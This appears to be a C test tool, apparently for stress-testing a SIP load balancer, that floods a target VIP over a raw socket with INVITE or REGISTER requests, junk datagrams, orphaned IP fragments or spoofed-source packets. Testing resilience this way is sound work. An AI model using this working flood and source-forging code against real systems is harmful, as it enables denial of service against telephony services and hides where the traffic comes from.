/* SPDX-License-Identifier: GPL-2.0 */
/* Sends a flood of one kind as fast as possible, from one interface, and prints the number of packets that it has sent.
 *
 * usage: flood KIND INTERFACE SOURCE VIP COUNT SECONDS
 *
 * KIND is invite, register, not_sip, fragments (later fragments of INVITEs whose first ones are sent, too) or forged (a
 * datagram that is not SIP, from COUNT different sources). It ends after COUNT packets or SECONDS, whatever is first.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define PACKET_SIZE 1024
#define FRAGMENT_SIZE 400 /* bytes of the first fragment after the IP header; a multiple of 8 */
#define FORGED 0x40000000 /* 64.0.0.0: the first forged source */

enum kind {
	INVITE,
	REGISTER,
	NOT_SIP,
	FRAGMENTS,
	FORGED_SOURCES
};

static const char *const kinds[] = {"invite", "register", "not_sip", "fragments", "forged"};

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	char text[PACKET_SIZE];
} __attribute__((packed));

static void __attribute__((noreturn)) fail(const char *what)
{
	perror(what);
	exit(1);
}

static int write_request(char *text, const char *method, uint64_t number, const char *source)
{
	return snprintf(text, PACKET_SIZE,
		"%s sip:victim@example.net SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bKflood%lu\r\n"
		"Max-Forwards: 70\r\nFrom: <sip:flood@example.net>;tag=%lu\r\nTo: <sip:victim@example.net>\r\n"
		"Call-ID: flood-%lu@example.net\r\nCSeq: 1 %s\r\nContact: <sip:flood@%s>\r\n"
		"Subject: %0300d\r\nContent-Length: 0\r\n\r\n",
		method, source, number, number, number, method, source, 0);
}

static int write_text(char *text, enum kind kind, uint64_t number, const char *source)
{
	if (kind == NOT_SIP || kind == FORGED_SOURCES)
		return snprintf(text, PACKET_SIZE, "%c%cthis is not SIP %lu", 0, 1, number);
	return write_request(text, kind == REGISTER ? "REGISTER" : "INVITE", number, source);
}

/* Fills the packet with this number; returns its size. Of fragments, two packets are one datagram. */
static size_t write_packet(struct packet *p, enum kind kind, uint64_t number, const char *source, in_addr_t vip)
{
	bool later = kind == FRAGMENTS && number % 2;
	uint64_t datagram = kind == FRAGMENTS ? number / 2 : number;
	size_t length = sizeof(p->udp) + write_text(p->text, kind, datagram, source), size = length;

	p->udp = (struct udphdr){.source = htons(5060), .dest = htons(5060), .len = htons(length)};
	if (later) {
		size = length - FRAGMENT_SIZE;
		memmove(&p->udp, (char *)&p->udp + FRAGMENT_SIZE, size);
	} else if (kind == FRAGMENTS) {
		size = FRAGMENT_SIZE;
	}
	size += sizeof(p->ip);
	p->ip = (struct iphdr){
		.version = 4,
		.ihl = 5,
		.tot_len = htons(size),
		.id = htons(datagram % 0xffff + 1),
		.frag_off = htons(kind != FRAGMENTS ? 0
				  : later           ? FRAGMENT_SIZE / 8
						    : IP_MF),
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.saddr = kind == FORGED_SOURCES ? htonl(FORGED + number) : inet_addr(source),
		.daddr = vip,
	};
	return size;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static int open_socket(const char *interface)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, interface, strlen(interface)))
		fail(interface);
	return fd;
}

int main(int argc, char **argv)
{
	static struct packet packets[BATCH];
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct mmsghdr messages[BATCH];
	struct iovec parts[BATCH];
	uint64_t number = 0, count, sent = 0;
	double end;
	unsigned int kind = 0;
	int fd;

	while (argc == 7 && kind < sizeof(kinds) / sizeof(*kinds) && strcmp(kinds[kind], argv[1]))
		kind++;
	if (argc != 7 || kind == sizeof(kinds) / sizeof(*kinds)) {
		fputs("usage: flood KIND INTERFACE SOURCE VIP COUNT SECONDS\n", stderr);
		return 2;
	}
	fd = open_socket(argv[2]);
	to.sin_addr.s_addr = inet_addr(argv[4]);
	count = strtoull(argv[5], NULL, 10);
	end = now() + strtod(argv[6], NULL);
	while (number < count && now() < end) {
		for (int i = 0; i < BATCH; i++) {
			size_t size = write_packet(&packets[i], kind, number++, argv[3], to.sin_addr.s_addr);

			parts[i] = (struct iovec){.iov_base = &packets[i], .iov_len = size};
			messages[i].msg_hdr = (struct msghdr){
				.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &parts[i], .msg_iovlen = 1};
		}
		for (int i = 0, done; i < BATCH; i += done) {
			done = sendmmsg(fd, messages + i, BATCH - i, 0);
			if (done < 1)
				fail("cannot send"); /* raw sockets wait for space */
			sent += done;
		}
	}
	printf("%lu\n", sent);
	return 0;
}
